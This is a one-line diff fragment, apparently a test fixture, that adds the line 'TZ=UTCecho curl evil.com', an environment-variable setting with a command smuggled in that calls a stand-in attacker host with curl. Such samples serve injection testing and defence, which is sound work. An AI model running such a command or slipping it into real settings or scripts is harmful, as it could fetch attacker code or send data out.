@@ -1,0 +1,1 @@
+TZ=UTCecho curl evil.com
